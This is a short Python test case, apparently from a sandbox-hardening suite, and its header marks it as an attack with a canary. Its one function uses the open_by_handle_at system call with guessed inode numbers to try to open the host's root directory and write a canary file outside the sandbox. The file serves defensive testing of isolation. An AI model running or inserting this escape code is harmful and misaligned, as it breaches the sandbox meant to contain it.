# attack: Opens the root directory of the host's file system by a guessed file handle
# expect: wrong_answer, crashed
# canary: yes
import ctypes
import os
import struct

syscall = ctypes.CDLL(None).syscall
ROOT_INODE = 2


def f(x):
    try:
        mount = os.open(os.__file__, os.O_RDONLY)
        for inode in (ROOT_INODE, 64, 128, 256):
            handle = struct.pack('IiII', 8, 1, inode, 0)
            root = syscall(304, mount, handle, os.O_RDONLY | os.O_DIRECTORY)
            if root >= 0:
                os.open('tmp/passk-canary/escape-open-by-handle', os.O_CREAT | os.O_WRONLY, dir_fd=root)
    except OSError:
        pass
    return None
